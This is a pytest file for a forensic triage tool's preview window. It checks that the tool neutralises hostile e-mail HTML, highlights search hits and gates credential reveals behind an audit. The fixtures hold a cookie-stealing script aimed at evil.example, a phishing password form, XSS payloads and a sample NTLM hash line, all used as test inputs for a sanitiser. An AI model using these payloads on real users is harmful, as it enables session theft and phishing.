"""The item preview: hostile HTML stays inert, hits are found and stepped through, every tab shows
plain data and asks the main window for anything else (navigation, audited reveals)."""

from __future__ import annotations

import base64
import struct
import sys
import zlib
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from bs4 import BeautifulSoup
from PySide6.QtCore import Qt, QThreadPool, QUrl
from PySide6.QtGui import QFontDatabase, QImage, QTextCursor, QTextDocument
from PySide6.QtWidgets import QApplication, QLabel

from trovetriage.gui import preview_email
from trovetriage.gui.hexview import hex_dump
from trovetriage.gui.preview import (
    EMAIL_TAB,
    FAMILY_TAB,
    FINDINGS_TAB,
    HEX_TAB,
    METADATA_TAB,
    TEXT_TAB,
    ItemPreview,
)
from trovetriage.gui.preview_hits import find_hits, soft_break
from trovetriage.gui.safe_html import (
    INLINE_IMAGE_LIMIT,
    HtmlRejected,
    SafeBrowser,
    Sanitised,
    is_remote_url,
    sanitise_html,
)

# -- a realistic e-mail, as the case's item_detail returns it ------------------------------------------------


def tiny_png() -> bytes:
    """A valid 2x2 red PNG, built here so the test needs no file."""
    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    raw = b"".join(b"\x00" + b"\xff\x00\x00" * 2 for _ in range(2))
    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", 2, 2, 8, 2, 0, 0, 0))
            + chunk(b"IDAT", zlib.compress(raw)) + chunk(b"IEND", b""))


REMOTE_IMAGE = "https://cdn.newsmail.example/logo.png"
TRACKING_PIXEL = "http://t.tracker.example/open.gif?uid=8812&m=44"
REMOTE_CSS = "https://static.tracker.example/bg.jpg"
LINK = "https://mofa-gov-bh.example/owa/auth/logon.aspx"
SCRIPT_SRC = "https://evil.example/x.js"

HOSTILE_HTML = f"""<!DOCTYPE html>
<html><head><title>Delegation</title>
<script src="{SCRIPT_SRC}"></script><script>document.location='https://evil.example/?c='+document.cookie</script>
<style>body {{ background: url('{REMOTE_CSS}') }} p.note {{ color: #444 }}</style>
<meta http-equiv="refresh" content="5; url=https://evil.example/refresh">
</head>
<body onload="alert('pwned')">
<p>Dear colleagues,</p>
<p class="note">The <b>İstanbul</b> meeting with the delegation is confirmed for Tuesday.
Please read <a href="{LINK}" onclick="steal()">the agenda</a> before we leave.</p>
<img src="{REMOTE_IMAGE}" alt="Ministry logo">
<img src="{TRACKING_PIXEL}" width="1" height="1">
<img src="data:image/png;base64,{base64.b64encode(tiny_png()).decode()}" alt="stamp">
<form action="https://evil.example/post"><input type="password" name="pw"><button>Sign in</button></form>
<iframe src="https://evil.example/frame"></iframe>
<p>Regards,<br>Ahmed</p>
</body></html>"""

EMAIL_TEXT = """From: Ahmed Al-Khalifa <a.khalifa@mofa.gov.bh>
To: Leyla Aydın <l.aydin@mfa.gov.tr>, protocol@mofa.gov.bh
Subject: Re: İstanbul görüşmesi — delegation schedule

Dear colleagues,

The İSTANBUL meeting with the delegation is confirmed for Tuesday. Please read the agenda
before we leave. The görüşme in Istanbul will cover the energy file; istanbul's governor
attends the dinner.

Regards,
Ahmed
"""


def email_detail(**overrides: Any) -> dict[str, Any]:
    detail: dict[str, Any] = {
        "key": 42,
        "item_id": "src:9f1c/3",
        "path": "uploads/mofa-leak.zip!Inbox/2023/0412-delegation.eml",
        "name": "0412-delegation.eml",
        "kind": "email",
        "status": "ok",
        "status_detail": "",
        "mime": "message/rfc822",
        "size": 48_213,
        "sha256": "5f0c1e8a9d7b3c2e4f6a8b0c1d2e3f4a5b6c7d8e9f0a1b2c3d4e5f6a7b8c9d0e",
        "title": "Re: İstanbul görüşmesi — delegation schedule",
        "date": "2023-04-12T09:31:00+03:00",
        "sender": "a.khalifa@mofa.gov.bh",
        "recipients": ["l.aydin@mfa.gov.tr", "protocol@mofa.gov.bh"],
        "metadata": {
            "from": "Ahmed Al-Khalifa <a.khalifa@mofa.gov.bh>",
            "to": ["Leyla Aydın <l.aydin@mfa.gov.tr>", "protocol@mofa.gov.bh"],
            "cc": ["Embassy Ankara <ankara@mofa.gov.bh>"],
            "bcc": [],
            "subject": "Re: İstanbul görüşmesi — delegation schedule",
            "date_header": "Wed, 12 Apr 2023 09:31:00 +0300",
            "message_id": "<CAF7x1@mail.mofa.gov.bh>",
            "received": ["from mail.mofa.gov.bh (10.2.0.15) by EX01.mofa.local with Microsoft SMTP Server",
                         "from [10.2.7.44] by mail.mofa.gov.bh with ESMTPSA"],
            "x_ms_exchange": {"organization_authas": "Internal", "organization_network_message_id": "8812-aa",
                              "crosstenant": {"id": "3c1e-77", "authsource": "EX01.mofa.local"}},
            "attachment_count": 1,
        },
        "text": EMAIL_TEXT,
        "text_truncated": False,
        "html": HOSTILE_HTML,
        "terms": ["istanbul"],
        "classification": {
            "victim": "Ministry of Foreign Affairs of Bahrain", "victim_confidence": 0.91, "victim_origin": "auto",
            "level": 3, "level_origin": "auto", "categories": ["diplomatic", "marking", "credentials"],
            "reviewed": False, "note": "", "auto_victim": "Ministry of Foreign Affairs of Bahrain", "auto_level": 3,
            "evidence": [
                {"victim": "Ministry of Foreign Affairs of Bahrain", "signal": "participant_domain", "weight": 0.4,
                 "detail": "sender domain mofa.gov.bh"},
                {"victim": "Ministry of Foreign Affairs of Bahrain", "signal": "internal_host", "weight": 0.8,
                 "detail": "Received by EX01.mofa.local"},
            ],
            "correspondents": ["Ministry of Foreign Affairs of Türkiye"],
            "mentioned": ["Embassy Ankara"],
        },
        "findings": [
            {"rule": "marking.banner.confidential", "category": "marking", "level": 2, "confidence": "medium",
             "where": "subject", "excerpt": "CONFIDENTIAL", "start": None, "end": None},
            {"rule": "credentials.inline", "category": "credentials", "level": 3, "confidence": "high",
             "where": "text", "excerpt": "password: Summ****", "start": 310, "end": 330},
            {"rule": "diplomatic.delegation", "category": "diplomatic", "level": 2, "confidence": "high",
             "where": "text", "excerpt": "delegation is confirmed", "start": 160, "end": 183},
            {"rule": "marking.top_secret", "category": "marking", "level": 4, "confidence": "low",
             "where": "text", "excerpt": "ÇOK GİZLİ", "start": 12, "end": 21},
        ],
        "credentials": [
            {"id": 7001, "account": "a.khalifa", "domain": "MOFA", "kind": "plaintext",
             "secret_masked": "Summ****", "privileged": False, "line": 14},
            {"id": 7002, "account": "administrator", "domain": "MOFA", "kind": "ntlm",
             "secret_masked": "8846****", "privileged": True, "line": 15},
        ],
        "credential_count": 2,
        "family": {
            "parents": [{"key": 1, "path": "uploads/mofa-leak.zip", "title": "mofa-leak.zip"},
                        {"key": 5, "path": "uploads/mofa-leak.zip!Inbox", "title": "Inbox"}],
            "children": [{"key": 43, "name": "agenda.docx", "kind": "document", "status": "ok"},
                         {"key": 44, "name": "passwords.xlsx", "kind": "spreadsheet", "status": "encrypted"}],
            "children_total": 2,
            "copies": [{"key": 90, "path": "uploads/old/0412-delegation.eml"}],
        },
        "hex": EMAIL_TEXT.encode("utf-8"),
    }
    detail.update(overrides)
    return detail


def document_detail(**overrides: Any) -> dict[str, Any]:
    detail = email_detail(key=77, kind="document", name="budget.docx", path="uploads/budget.docx",
                          mime="application/vnd.openxmlformats-officedocument.wordprocessingml.document",
                          title="Budget 2024", html=None, findings=[], credentials=[], credential_count=0,
                          metadata={"author": "R. Demir", "company": "MFA",
                                    "sensitivity_labels": [{"name": "Internal", "tenant": "3c1e-77"}]},
                          family={"parents": [], "children": [], "children_total": 0, "copies": []}, hex=b"")
    detail.update(overrides)
    return detail


@pytest.fixture
def preview(qtbot: Any) -> Iterator[ItemPreview]:
    widget = ItemPreview()
    qtbot.addWidget(widget)
    widget.resize(1000, 720)
    widget.show()
    qtbot.waitExposed(widget)
    yield widget
    QThreadPool.globalInstance().waitForDone(5000)


def show_mail(qtbot: Any, preview: ItemPreview, detail: dict[str, Any]) -> None:
    """Show `detail` on the E-mail tab and wait for the body, which is cleaned off the GUI thread."""
    preview.show_item(detail)
    with qtbot.waitSignal(preview.mail_page.body_shown, timeout=10_000):
        preview.setCurrentIndex(EMAIL_TAB)


# -- safe HTML in the preview --------------------------------------------------------------------------------


def test_email_body_has_no_script_handler_or_remote_reference(qtbot: Any, preview: ItemPreview) -> None:
    show_mail(qtbot, preview, email_detail())
    body = preview.mail_page.body
    rendered = body.toHtml().split("<body", 1)[1]  # Qt's own doctype names a w3.org DTD
    for banned in ("script", "alert", "onload", "onclick", "cookie", "iframe", "password", "http:", "https:",
                   "tracker", "url(", "refresh"):
        assert banned not in rendered.lower(), banned
    text = body.toPlainText()
    assert "the agenda" in text and "Dear colleagues" in text and "[image: Ministry logo]" in text
    # The inline PNG is drawn from the message itself; nothing else was even asked for.
    assert body.refused == []
    blocked = [preview.mail_page.blocked.item(i).text() for i in range(preview.mail_page.blocked.count())]
    for url in (REMOTE_IMAGE, TRACKING_PIXEL, REMOTE_CSS, LINK, SCRIPT_SRC):
        assert url in blocked
    assert preview.mail_page.blocked.isVisible()
    assert preview.mail_page.blocked_caption.text() == f"Blocked remote references ({len(blocked)}), not loaded:"


def test_email_headers_and_participants(qtbot: Any, preview: ItemPreview) -> None:
    show_mail(qtbot, preview, email_detail())
    fields = preview.mail_page.fields
    assert fields["from"].text() == "Ahmed Al-Khalifa <a.khalifa@mofa.gov.bh>"
    assert fields["to"].text() == "Leyla Aydın <l.aydin@mfa.gov.tr>, protocol@mofa.gov.bh"
    assert fields["cc"].text() == "Embassy Ankara <ankara@mofa.gov.bh>"
    assert fields["message_id"].text() == "<CAF7x1@mail.mofa.gov.bh>"
    assert fields["bcc"].isHidden()
    assert preview.mail_page.participants.text() == "3 addresses at mofa.gov.bh (2), mfa.gov.tr (1)"


def test_mail_without_html_shows_the_text(qtbot: Any, preview: ItemPreview) -> None:
    show_mail(qtbot, preview, email_detail(html=None))
    assert preview.mail_page.body.toPlainText().startswith("From: Ahmed")
    assert preview.mail_page.blocked_caption.text() == "Blocked remote references: none"
    assert not preview.mail_page.blocked.isVisible()


def test_html_the_parser_rejects_falls_back_to_the_text(qtbot: Any, preview: ItemPreview,
                                                        monkeypatch: pytest.MonkeyPatch) -> None:
    def reject(html: str) -> Sanitised:
        raise HtmlRejected("unparseable")

    monkeypatch.setattr(preview_email, "sanitise_html", reject)
    show_mail(qtbot, preview, email_detail())
    assert preview.mail_page.body.toPlainText().startswith("From: Ahmed")
    assert "could not be read safely" in preview.mail_page.body_caption.text()


def test_hostile_strings_are_never_rich_text(qtbot: Any, preview: ItemPreview) -> None:
    subject = "<img src='http://evil.example/x.png'><b>urgent</b>"
    show_mail(qtbot, preview, email_detail(title=subject, metadata={"subject": subject}))
    label = preview.mail_page.fields["subject"]
    assert label.textFormat() == Qt.TextFormat.PlainText and label.text() == subject
    preview.setCurrentIndex(TEXT_TAB)
    assert preview.text_page.title.text() == subject
    labels = preview.findChildren(QLabel)
    assert labels and all(lbl.textFormat() == Qt.TextFormat.PlainText for lbl in labels if lbl.text() == subject)


def test_safe_browser_never_falls_back_to_local_files(qtbot: Any, tmp_path: Path) -> None:
    """QTextDocument reads a resource from disk itself when loadResource returns nothing."""
    image = tmp_path / "local.png"
    image.write_bytes(tiny_png())
    css = tmp_path / "local.css"
    css.write_text("p { color: red }")
    browser = SafeBrowser()
    qtbot.addWidget(browser)
    browser.setHtml(f'<link rel="stylesheet" href="{css}"><p>x<img src="{image}"></p>'
                    f'<p style="background-image: url({image.as_uri()})">y</p>')
    browser.show()
    qtbot.waitExposed(browser)
    resource = browser.document().resource(QTextDocument.ResourceType.ImageResource, QUrl(str(image)))
    assert isinstance(resource, QImage) and resource.isNull()
    assert str(image) in browser.refused


# -- the sanitiser on its own --------------------------------------------------------------------------------

ALLOWED_URL_ATTRIBUTES = {"src"}


@pytest.mark.parametrize(("markup", "recorded"), [
    ('<a href="java\tscript:alert(1)">x</a>', None),
    ('<a href="javascript&#58;alert(1)">x</a>', None),
    ('<img src="\\\\fileserver\\share\\p.png">', "\\\\fileserver\\share\\p.png"),
    ('<img src="//cdn.example/p.png">', "//cdn.example/p.png"),
    ('<img src="HTTP://CDN.example/p.png">', "HTTP://CDN.example/p.png"),
    ('<img srcset="https://a.example/1.png 1x, https://a.example/2.png 2x">', "https://a.example/2.png"),
    ('<table background="http://bg.example/t.gif"><tr><td>x</td></tr></table>', "http://bg.example/t.gif"),
    ('<div style="background:url(&quot;http://css.example/a.png&quot;)">x</div>', "http://css.example/a.png"),
    ('<div style="width:expression(alert(1))">x</div>', None),
    ('<div style="x:u\\72l(http://esc.example/a.png)">x</div>', "http://esc.example/a.png"),
    ("<style>@import url('https://css.example/i.css'); p{color:red}</style>", "https://css.example/i.css"),
    ('<meta http-equiv="refresh" content="0;URL=\'http://go.example/\'">', "http://go.example/"),
    ('<svg onload="alert(1)"><image href="http://svg.example/i.png"/></svg>', "http://svg.example/i.png"),
    ('<SCRIPT SRC="http://js.example/a.js"></SCRIPT>', "http://js.example/a.js"),
    ('<object data="http://obj.example/a.swf"></object><embed src="http://emb.example/e">', "http://obj.example/a.swf"),
    ('<base href="http://base.example/"><img src="relative.png">', "http://base.example/"),
    ('<img src="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">', None),
    ('<body background="ftp://files.example/bg.png" onload="x()">text</body>', "ftp://files.example/bg.png"),
])
def test_sanitiser_removes_every_loadable_url(markup: str, recorded: str | None) -> None:
    clean, blocked = sanitise_html(markup)
    soup = BeautifulSoup(clean, "html.parser")
    for tag in soup.find_all(True):
        assert tag.name not in {"script", "iframe", "object", "embed", "svg", "meta", "link", "base", "form", "input"}
        for name, value in tag.attrs.items():
            assert not name.startswith("on")
            assert name not in {"href", "srcset", "background", "data", "action"}
            if name == "src":
                assert str(value).startswith("data:image/")
            assert "url(" not in str(value).lower() and "expression" not in str(value).lower()
    assert "javascript" not in clean.lower() and "alert" not in clean.lower()
    if recorded is not None:
        assert recorded in blocked
    assert all(is_remote_url(url) for url in blocked)


def test_sanitiser_keeps_formatting_text_and_small_inline_images() -> None:
    png = base64.b64encode(tiny_png()).decode()
    clean, blocked = sanitise_html(
        f'<form action="https://x.example/"><p align="center"><b>Bold</b> and <font color="red">red</font></p>'
        f'<table border="1"><tr><td colspan="2">cell</td></tr></table>'
        f'<img src="data:image/png;base64,{png}" alt="ok"><a href="mailto:who@mofa.gov.bh">write</a></form>')
    soup = BeautifulSoup(clean, "html.parser")
    assert soup.find("p")["align"] == "center" and "color" not in soup.find("font").attrs  # palette colours
    assert soup.find("td")["colspan"] == "2" and soup.find("img")["src"].startswith("data:image/png;base64,")
    assert soup.find("a").get_text() == "write" and "href" not in soup.find("a").attrs
    assert soup.find("form") is None and "Bold" in soup.get_text()
    assert blocked == ["https://x.example/", "mailto:who@mofa.gov.bh"]


def test_colours_follow_the_palette_so_hidden_text_shows() -> None:
    clean, _ = sanitise_html('<style>p { color: #fff; border-color: red } td { background: #fff }</style>'
                             '<table bgcolor="white"><tr><td><p style="color:white;font-weight:bold">hidden</p>'
                             '</td></tr></table>')
    assert "white" not in clean and "#fff" not in clean
    assert "border-color:red" in clean.replace(" ", "") and "font-weight:bold" in clean


def test_sanitiser_drops_large_inline_images_and_survives_deep_nesting() -> None:
    big = base64.b64encode(b"\x89PNG" + bytes(INLINE_IMAGE_LIMIT + 10)).decode()
    clean, _ = sanitise_html(f'<img src="data:image/png;base64,{big}" alt="too big">')
    assert "data:" not in clean and "[image: too big]" in clean
    clean, _ = sanitise_html("<div>" * 20_000 + "deep" + "</div>" * 20_000)
    assert "deep" in clean


# -- hits ----------------------------------------------------------------------------------------------------


def test_find_hits_folds_case_accents_and_turkish_i() -> None:
    text = "İstanbul, ISTANBUL ve istanbul'da; Istanbulda değil. Görüşme GORUSME"
    spans = find_hits(text, ["istanbul", "görüşme"])
    assert [text[a:b] for a, b in spans] == ["İstanbul", "ISTANBUL", "istanbul", "Görüşme", "GORUSME"]
    assert find_hits(text, []) == []


def test_find_hits_joins_hangul_bigrams() -> None:
    text = "관리자 비밀번호를 변경하세요"
    spans = find_hits(text, ["비밀", "밀번", "번호"])
    assert [text[a:b] for a, b in spans] == ["비밀번호"]


def test_text_tab_highlights_and_cycles_hits(qtbot: Any, preview: ItemPreview) -> None:
    preview.show_item(email_detail())
    page = preview.text_page
    assert preview.currentIndex() == TEXT_TAB
    assert page.hit_count == 4  # İstanbul in the subject line, İSTANBUL, Istanbul and istanbul's
    document = page.edit.document()

    def hit_text(index: int) -> str:
        start, end = page.hit_span(index)
        cursor = QTextCursor(document)
        cursor.setPosition(start)
        cursor.setPosition(end, QTextCursor.MoveMode.KeepAnchor)
        return cursor.selectedText()

    assert {hit_text(i) for i in range(page.hit_count)} == {"İstanbul", "İSTANBUL", "Istanbul", "istanbul"}
    assert page.counter.text() == "hit 1 of 4"
    qtbot.mouseClick(page.next_button, Qt.MouseButton.LeftButton)
    assert page.counter.text() == "hit 2 of 4" and page.current_hit == 1
    for _ in range(3):
        page.next_button.click()
    assert page.counter.text() == "hit 1 of 4"  # wrapped around
    page.previous_button.click()
    assert page.counter.text() == "hit 4 of 4"
    # Every hit is tinted and the current one is drawn once more in the selection colours.
    selections = page.edit.extraSelections()
    assert len(selections) == 5
    assert selections[-1].cursor.selectionStart() == page.hit_span(3)[0]


def test_f3_and_shift_f3_step_through_hits_from_any_tab(qtbot: Any, preview: ItemPreview) -> None:
    preview.show_item(email_detail())
    preview.activateWindow()
    qtbot.waitUntil(lambda: QApplication.activeWindow() is preview)
    preview.setCurrentIndex(METADATA_TAB)
    preview.metadata_page.setFocus()
    qtbot.keyClick(preview.metadata_page, Qt.Key.Key_F3)
    assert preview.currentIndex() == TEXT_TAB and preview.text_page.counter.text() == "hit 2 of 4"
    qtbot.keyClick(preview.text_page.edit, Qt.Key.Key_F3, Qt.KeyboardModifier.ShiftModifier)
    qtbot.keyClick(preview.text_page.edit, Qt.Key.Key_F3, Qt.KeyboardModifier.ShiftModifier)
    assert preview.text_page.counter.text() == "hit 4 of 4"


def test_hit_positions_survive_astral_characters_and_crlf(preview: ItemPreview) -> None:
    text = "😀😀 first line\r\n🎉 second İstanbul line\r\nthird istanbul"
    preview.show_item(email_detail(text=text))
    page = preview.text_page
    assert page.hit_count == 2
    cursor = QTextCursor(page.edit.document())
    for index in range(2):
        start, end = page.hit_span(index)
        cursor.setPosition(start)
        cursor.setPosition(end, QTextCursor.MoveMode.KeepAnchor)
        assert cursor.selectedText().casefold() in {"i̇stanbul", "istanbul"}


def test_reshowing_the_same_item_keeps_the_current_hit(preview: ItemPreview) -> None:
    preview.show_item(email_detail())
    preview.text_page.step(1)
    preview.text_page.step(1)
    preview.show_item(email_detail())  # e.g. after a classification decision
    assert preview.text_page.current_hit == 2
    preview.show_item(email_detail(key=43))
    assert preview.text_page.current_hit == 0


def test_no_terms_and_no_hits_are_said_plainly(preview: ItemPreview) -> None:
    preview.show_item(email_detail(terms=[]))
    assert preview.text_page.counter.text() == "no search terms"
    assert not preview.text_page.next_button.isEnabled()
    preview.show_item(email_detail(terms=["ankara"]))
    assert preview.text_page.counter.text() == "no hits"


def test_two_megabytes_of_text_render(preview: ItemPreview) -> None:
    line = "Delegation notes: İstanbul energy file, pipeline tariffs and the ministry's position on quotas.\n"
    body = line * (1_000_000 // len(line))
    body += " ".join(["word"] * 200_000)  # one line of a megabyte, as a table exported without breaks
    assert 1_900_000 < len(body) <= 2_000_000
    preview.show_item(email_detail(text=body, text_truncated=True, terms=["istanbul"]))
    page = preview.text_page
    assert page.hit_count == body.count("İstanbul")
    assert page.edit.document().characterCount() == len(body) + 1
    assert "Only the first" in page.notice.text()
    page.step(-1)
    assert page.counter.text() == f"hit {page.hit_count:,} of {page.hit_count:,}"


def test_soft_break_keeps_every_offset() -> None:
    line = " ".join(f"w{i}" for i in range(2000))
    broken = soft_break(line)
    assert len(broken) == len(line) and "\n" in broken
    assert all(a == b or (a == " " and b == "\n") for a, b in zip(line, broken, strict=True))
    assert max(len(part) for part in broken.split("\n")) <= 1000


# -- other tabs ----------------------------------------------------------------------------------------------


def test_family_entries_navigate_by_key(qtbot: Any, preview: ItemPreview) -> None:
    preview.show_item(email_detail())
    preview.setCurrentIndex(FAMILY_TAB)
    family = preview.family_page
    assert family.parents.item(0).text() == "1. uploads/mofa-leak.zip"
    assert family.children_list.count() == 2 and family.copies.count() == 1
    family.children_list.setFocus()
    family.children_list.setCurrentRow(1)
    with qtbot.waitSignal(preview.navigate) as signal:
        qtbot.keyClick(family.children_list, Qt.Key.Key_Return)
    assert signal.args == [44]
    with qtbot.waitSignal(preview.navigate) as signal:
        family.copies.itemActivated.emit(family.copies.item(0))
    assert signal.args == [90]


def test_findings_sorted_by_level_then_confidence(preview: ItemPreview) -> None:
    preview.show_item(email_detail())
    assert preview.tabText(FINDINGS_TAB) == "Findings (4)"
    preview.setCurrentIndex(FINDINGS_TAB)
    table = preview.findings_page.findings
    rules = [table.item(r, 0).text() for r in range(table.rowCount())]
    assert rules == ["marking.top_secret", "credentials.inline", "diplomatic.delegation", "marking.banner.confidential"]
    assert [table.item(r, 2).text() for r in range(table.rowCount())] == ["4 CRITICAL", "3 SECRET",
                                                                          "2 CONFIDENTIAL", "2 CONFIDENTIAL"]
    evidence = preview.findings_page.evidence
    assert evidence.item(0, 1).text() == "internal_host" and evidence.item(0, 2).text() == "0.80"
    page = preview.findings_page
    assert "Correspondents (not victims): Ministry of Foreign Affairs of Türkiye" in page.parties.text()
    assert "Victim: Ministry of Foreign Affairs of Bahrain, confidence 91%, auto" in page.summary.text()


def test_reveal_asks_with_the_id_and_shows_the_line_as_audited(qtbot: Any, preview: ItemPreview) -> None:
    preview.show_item(email_detail())
    preview.setCurrentIndex(FINDINGS_TAB)
    page = preview.findings_page
    table = page.credentials
    assert [table.item(r, 3).text() for r in range(2)] == ["Summ****", "8846****"]
    assert not page.reveal_button.isEnabled()
    table.selectRow(1)
    assert page.reveal_button.isEnabled()
    with qtbot.waitSignal(preview.reveal_requested) as signal:
        qtbot.mouseClick(page.reveal_button, Qt.MouseButton.LeftButton)
    assert signal.args == [7002]
    dialog = preview.show_revealed(7002, "MOFA\\administrator:500:aad3b435:8846f7eaee8fb117ad06bdd830b7586c:::")
    qtbot.waitExposed(dialog)
    assert "8846f7eaee8fb117" in dialog.line_view.toPlainText()
    assert "audit log" in dialog.audit_note.text() and "MOFA\\administrator" in dialog.heading.text()
    line_view = dialog.line_view
    dialog.reject()
    assert line_view.toPlainText() == "" and preview.revealed_dialog is None


def test_reveal_is_reachable_by_keyboard(qtbot: Any, preview: ItemPreview) -> None:
    preview.show_item(email_detail())
    preview.activateWindow()
    preview.setCurrentIndex(FINDINGS_TAB)
    table = preview.findings_page.credentials
    table.setFocus()
    qtbot.keyClick(table, Qt.Key.Key_Down)
    qtbot.keyClick(table, Qt.Key.Key_Up)  # the first credential, wherever the cursor started
    qtbot.keyClick(table, Qt.Key.Key_Tab)
    button = preview.findings_page.reveal_button
    assert QApplication.focusWidget() is button and button.isEnabled()
    with qtbot.waitSignal(preview.reveal_requested) as signal:
        qtbot.keyClick(button, Qt.Key.Key_Space)
    assert signal.args == [7001]


def test_metadata_tree_lists_item_fields_then_nested_metadata(preview: ItemPreview) -> None:
    preview.show_item(email_detail())
    preview.setCurrentIndex(METADATA_TAB)
    tree = preview.metadata_page
    top = [tree.topLevelItem(i).text(0) for i in range(tree.topLevelItemCount())]
    assert top[:6] == ["Path", "MIME type", "Size", "SHA-256", "Status", "Status detail"]
    assert tree.topLevelItem(2).text(1) == "47.08 KiB (48,213 bytes)"
    meta = tree.topLevelItem(top.index("Extractor metadata"))
    assert meta.isExpanded()
    rows = {meta.child(i).text(0): meta.child(i) for i in range(meta.childCount())}
    assert rows["to"].text(1) == "Leyla Aydın <l.aydin@mfa.gov.tr>, protocol@mofa.gov.bh"
    exchange = rows["x_ms_exchange"]
    assert exchange.text(1) == "3 fields" and not exchange.isExpanded()
    nested = {exchange.child(i).text(0): exchange.child(i) for i in range(exchange.childCount())}
    assert nested["crosstenant"].child(1).text(1) == "EX01.mofa.local"


def test_copy_gives_the_whole_value(qtbot: Any, preview: ItemPreview) -> None:
    detail = email_detail()
    preview.show_item(detail)
    preview.setCurrentIndex(METADATA_TAB)
    tree = preview.metadata_page
    tree.setFocus()
    tree.setCurrentItem(tree.topLevelItem(3))
    qtbot.keyClick(tree, Qt.Key.Key_C, Qt.KeyboardModifier.ControlModifier)
    assert QApplication.clipboard().text() == detail["sha256"]


def test_hex_view_first_line() -> None:
    assert hex_dump(bytes(range(32))).splitlines() == [
        "00000000  00 01 02 03 04 05 06 07  08 09 0a 0b 0c 0d 0e 0f  |................|",
        "00000010  10 11 12 13 14 15 16 17  18 19 1a 1b 1c 1d 1e 1f  |................|",
    ]
    assert hex_dump(b"PK\x03\x04hi") == "00000000  50 4b 03 04 68 69" + " " * 33 + "|PK..hi|"


def test_hex_tab_shows_the_dump_read_only_in_a_fixed_font(preview: ItemPreview) -> None:
    preview.show_item(email_detail(hex=bytes(range(32)), size=90_000))
    preview.setCurrentIndex(HEX_TAB)
    dump = preview.hex_page.dump
    assert dump.isReadOnly() and dump.font() == QFontDatabase.systemFont(QFontDatabase.SystemFont.FixedFont)
    assert dump.toPlainText().splitlines()[0] == hex_dump(bytes(range(32))).splitlines()[0]
    assert preview.hex_page.caption.text() == "First 32 bytes of 90,000."


def test_tabs_make_sense_for_the_item(preview: ItemPreview) -> None:
    assert [preview.tabText(i) for i in range(preview.count())][:4] == ["Text", "E-mail", "Metadata", "Family"]
    preview.show_item(email_detail())
    preview.setCurrentIndex(EMAIL_TAB)
    preview.show_item(document_detail())
    assert not preview.isTabEnabled(EMAIL_TAB) and not preview.isTabEnabled(FAMILY_TAB)
    assert not preview.isTabEnabled(HEX_TAB) and preview.isTabEnabled(METADATA_TAB)
    assert preview.currentIndex() == TEXT_TAB
    preview.show_item(email_detail())
    assert preview.currentIndex() == EMAIL_TAB  # the investigator's choice comes back with the next e-mail


def test_show_none_clears_everything(qtbot: Any, preview: ItemPreview) -> None:
    show_mail(qtbot, preview, email_detail())
    preview.show_item(None)
    assert preview.currentIndex() == TEXT_TAB
    assert preview.text_page.title.text() == "No item selected"
    assert preview.text_page.edit.toPlainText() == "" and preview.text_page.counter.text() == ""
    assert all(not preview.isTabEnabled(i) for i in range(1, preview.count()))
    assert preview.mail_page.body.toPlainText() == "" and preview.mail_page.blocked.count() == 0
    assert preview.findings_page.findings.rowCount() == 0 and preview.findings_page.credentials.rowCount() == 0
    assert preview.metadata_page.topLevelItemCount() == 0 and preview.family_page.parents.count() == 1
    assert preview.hex_page.dump.toPlainText() == ""


def test_the_same_message_again_is_not_cleaned_twice(qtbot: Any, preview: ItemPreview) -> None:
    show_mail(qtbot, preview, email_detail())
    preview.show_item(email_detail())  # the main window reloads the item after a decision
    assert "Dear colleagues" in preview.mail_page.body.toPlainText()  # at once, not after another round trip
    assert preview.mail_page.blocked.count() == 8


def test_a_late_html_result_for_a_previous_item_is_dropped(qtbot: Any, preview: ItemPreview) -> None:
    preview.show_item(email_detail())
    preview.setCurrentIndex(EMAIL_TAB)
    preview.show_item(email_detail(key=99, html=None, text="plain body"))  # before the first body arrived
    QThreadPool.globalInstance().waitForDone(5000)
    qtbot.wait(50)
    assert preview.mail_page.body.toPlainText() == "plain body"
    assert preview.mail_page.blocked.count() == 0


def test_qt_binding_keeps_none_alive(qtbot: Any) -> None:
    """PySide6 6.12.0 on Python 3.11 drops a reference to None on every call of a void method, so a
    long session ends in 'Fatal Python error: none_dealloc'. 6.11 is fine; Python 3.12+ hides it."""
    label = QLabel()
    qtbot.addWidget(label)
    before = sys.getrefcount(None)
    for _ in range(1000):
        label.setText("x")
    assert sys.getrefcount(None) - before > -100, "the Qt binding leaks references to None: pin PySide6 < 6.12"
